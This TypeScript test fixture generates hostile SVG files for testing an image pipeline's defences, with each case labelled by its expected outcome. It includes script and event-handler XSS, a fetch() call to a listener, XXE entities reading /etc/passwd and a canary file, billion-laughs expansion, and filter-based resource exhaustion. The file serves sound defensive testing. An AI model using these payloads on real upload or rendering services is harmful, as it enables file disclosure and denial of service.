import { made } from './pictures.ts';
import { ANY, BROKEN, PAYLOAD, REFUSED, type Expected, type Hostile, type Targets } from './types.ts';

const HOSTILE: readonly Expected[] = ['asset.hostile'];
const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (content: string, root = 'width="400" height="300"'): Buffer =>
  Buffer.from(`<svg ${NS} ${root}>${content}</svg>`);
const rect = '<rect width="400" height="300" fill="#06c"/>';
/** Each refers ten times to the one before. */
const tenfold = (levels: number, one: (level: number) => string, id: (level: number) => string): string =>
  Array.from({ length: levels }, (_, i) => id(i + 1).replace('…', one(i).repeat(10))).join('');

/** Drawings that run, fetch, read, or unfold. */
export function drawings({ listener, canary }: Targets): Hostile[] {
  const file = `file://${canary}`;
  const laughs = tenfold(
    9,
    (i) => `&l${i};`,
    (i) => `<!ENTITY l${i} "…">`,
  );
  const uses = tenfold(
    12,
    (i) => `<use href="#g${i}"/>`,
    (i) => `<g id="g${i}">…</g>`,
  );
  const patterns = tenfold(
    12,
    (i) => `<rect width="9" height="9" fill="url(#g${i})"/>`,
    (i) => `<pattern id="g${i}" width="9" height="9">…</pattern>`,
  );
  const masks = tenfold(
    12,
    (i) => `<rect width="9" height="9" mask="url(#g${i})"/>`,
    (i) => `<mask id="g${i}">…</mask>`,
  );
  const inner = svg(`<image href="${listener}/inner.png"/>`).toString('base64');
  const all: readonly (readonly [about: string, bytes: Buffer, expected: readonly Expected[]])[] = [
    ['a script', svg(`<script>fetch("${listener}")</script>${rect}`), HOSTILE],
    ['a script from elsewhere', svg(`<script href="${listener}/a.js"/>${rect}`), HOSTILE],
    ['an event handler', svg(`<rect onclick="alert(1)" width="9" height="9"/>`), HOSTILE],
    ['an event handler at its root', svg(rect, 'onload="alert(1)" width="400" height="300"'), HOSTILE],
    ['a link that is a script', svg(`<a xlink:href=" java&#9;script:alert(1)">${rect}</a>`), HOSTILE],
    [
      'a frame',
      svg(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${listener}"/></foreignObject>`),
      HOSTILE,
    ],
    [
      'HTML inside',
      svg(
        `<foreignObject width="9" height="9"><p xmlns="http://www.w3.org/1999/xhtml">${PAYLOAD}</p></foreignObject>${rect}`,
      ),
      ['ready'],
    ],
    ['a picture from the net', svg(`<image href="${listener}/a.png" width="99" height="99"/>`), HOSTILE],
    ['a picture from the disk', svg(`<image xlink:href="${file}" width="99" height="99"/>`), HOSTILE],
    ['a picture by a path', svg(`<image xlink:href="${canary}" width="99" height="99"/>`), HOSTILE],
    ['a drawing inside that fetches', svg(`<image href="data:image/svg+xml;base64,${inner}"/>`), HOSTILE],
    [
      'a picture through feImage',
      svg(
        `<filter id="f"><feImage href="${file}"/></filter><rect width="400" height="300" filter="url(#f)"/>`,
      ),
      ANY,
    ],
    ['a shape from elsewhere', svg(`<use href="${listener}/a.svg#b"/>`), HOSTILE],
    ['a shape from the disk', svg(`<use xlink:href="${file}#b"/>`), HOSTILE],
    ['an imported style', svg(`<style>@import url("${listener}/a.css");</style>${rect}`), ['ready']],
    [
      'a font from elsewhere',
      svg(
        `<style>@font-face{font-family:a;src:url(${listener}/a.woff)}text{font-family:a}</style><text x="9" y="99">a</text>${rect}`,
      ),
      ['ready'],
    ],
    [
      'a colour from elsewhere',
      svg(`<rect width="400" height="300" fill="url(${listener}/a.svg#b)"/>`),
      ['ready'],
    ],
    [
      'a colour by escapes',
      svg(`<rect width="400" height="300" style="fill:\\75rl(${listener})"/>`),
      ['ready'],
    ],
    [
      'a stylesheet beside it',
      Buffer.from(
        `<?xml-stylesheet href="${listener}/a.css"?><svg ${NS} width="400" height="300">${rect}</svg>`,
      ),
      ['ready'],
    ],
    [
      'a type from elsewhere',
      Buffer.from(
        `<!DOCTYPE svg SYSTEM "${listener}/a.dtd"><svg ${NS} width="400" height="300">${rect}</svg>`,
      ),
      ['ready', 'asset.hostile'],
    ],
    [
      'a billion laughs',
      Buffer.from(
        `<!DOCTYPE svg [<!ENTITY l0 "lol">${laughs}]><svg ${NS} width="400" height="300"><text y="50">&l9;</text></svg>`,
      ),
      HOSTILE,
    ],
    [
      'an entity of a file',
      Buffer.from(
        `<!DOCTYPE svg [<!ENTITY x SYSTEM "${file}">]><svg ${NS} width="400" height="300"><text y="50">&x;</text></svg>`,
      ),
      HOSTILE,
    ],
    [
      'an entity of /etc/passwd',
      Buffer.from(
        `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${NS} width="400" height="300"><text y="50">&x;</text></svg>`,
      ),
      HOSTILE,
    ],
    [
      'an entity from the net',
      Buffer.from(
        `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${listener}/x.dtd"> %x;]><svg ${NS} width="400" height="300"/>`,
      ),
      HOSTILE,
    ],
    [
      'an inclusion',
      svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${file}" parse="text"/>${rect}`),
      HOSTILE,
    ],
    ['uses that multiply', svg(`<defs><g id="g0">${rect}</g>${uses}</defs><use href="#g12"/>`), HOSTILE],
    [
      'patterns that multiply',
      svg(`<defs><pattern id="g0"/>${patterns}</defs><rect width="400" height="300" fill="url(#g12)"/>`),
      HOSTILE,
    ],
    [
      'masks that multiply',
      svg(`<defs><mask id="g0"/>${masks}</defs><rect width="400" height="300" mask="url(#g12)"/>`),
      HOSTILE,
    ],
    ['a use of itself', svg('<g id="a"><use href="#a"/></g>'), HOSTILE],
    ['a view box of 10⁹ × 10⁹', svg(rect, 'viewBox="0 0 1000000000 1000000000"'), ANY],
    ['a size of 10⁶ × 10⁶', svg(rect, 'width="1000000" height="1000000"'), ANY],
    ['a size of 10³⁰⁰', svg(rect, 'width="1e300" height="1e300"'), REFUSED],
    ['the shape of a needle', svg(rect, 'viewBox="0 0 1 100000"'), REFUSED],
    ['a size of nothing', svg(rect, 'width="0" height="0"'), BROKEN],
    [
      'a path of 5 MB',
      svg(`<path d="${'M0.0000000000 0.0000000000L400.0000000000 300.0000000000 9 99Z'.repeat(80_000)}"/>`),
      ANY,
    ],
    ['elements 100000 deep', svg('<g>'.repeat(100_000) + '</g>'.repeat(100_000)), HOSTILE],
    ['500000 elements', svg('<rect/>'.repeat(500_000)), HOSTILE],
    [
      '100000 attributes',
      svg(`<rect ${Array.from({ length: 100_000 }, (_, i) => `a${i}=""`).join(' ')}/>`),
      ANY,
    ],
    [
      'a blur of a million',
      svg(
        `<filter id="f"><feGaussianBlur stdDeviation="1000000"/></filter><rect width="400" height="300" filter="url(#f)"/>`,
      ),
      ANY,
    ],
    [
      'noise in a million octaves',
      svg(
        `<filter id="f"><feTurbulence baseFrequency="0.1" numOctaves="1000000"/></filter><rect width="400" height="300" filter="url(#f)"/>`,
      ),
      HOSTILE,
    ],
    [
      'a thickening of 100000',
      svg(
        `<filter id="f"><feMorphology operator="dilate" radius="100000"/></filter><rect width="400" height="300" filter="url(#f)"/>`,
      ),
      HOSTILE,
    ],
    [
      'four hundred filters',
      svg(
        `<filter id="f">${'<feGaussianBlur stdDeviation="60"/>'.repeat(400)}</filter><rect width="400" height="300" filter="url(#f)"/>`,
      ),
      HOSTILE,
    ],
    ['dashes without number', svg('<path d="M0 0L400 300" stroke="#000" stroke-dasharray="0.00001"/>'), ANY],
    [
      'a pattern of tiny tiles',
      svg(
        `<pattern id="p" width="0.001" height="0.001" patternUnits="userSpaceOnUse"><path d="M0 0L1 1"/></pattern><rect width="400" height="300" fill="url(#p)"/>`,
      ),
      HOSTILE,
    ],
    [
      'another language for its root',
      Buffer.from('<svg xmlns="http://example.org/" width="400" height="300"/>'),
      REFUSED,
    ],
    ['two roots', Buffer.concat([svg(rect), svg(rect)]), BROKEN],
    ['UTF-16', Buffer.from(`\ufeff<svg ${NS} width="400" height="300"/>`, 'utf16le'), ['asset.type']],
    [
      'UTF-7 by its declaration',
      Buffer.from(
        `<?xml version="1.0" encoding="UTF-7"?><svg ${NS} width="400" height="300">+ADw-script+AD4-${rect}</svg>`,
      ),
      ANY,
    ],
    [
      'a web page as its root',
      Buffer.from(`<!DOCTYPE html><html><body>${svg(rect).toString()}</body></html>`),
      ['asset.type'],
    ],
    [
      'letters that are no XML',
      Buffer.concat([svg(rect).subarray(0, 90), Buffer.from([0, 1, 2, 0xff]), svg(rect).subarray(90)]),
      BROKEN,
    ],
  ];
  return all.map(([about, bytes, expected], i) =>
    made(`SVG with ${about}`, `drawing-${i}.svg`, bytes, expected),
  );
}
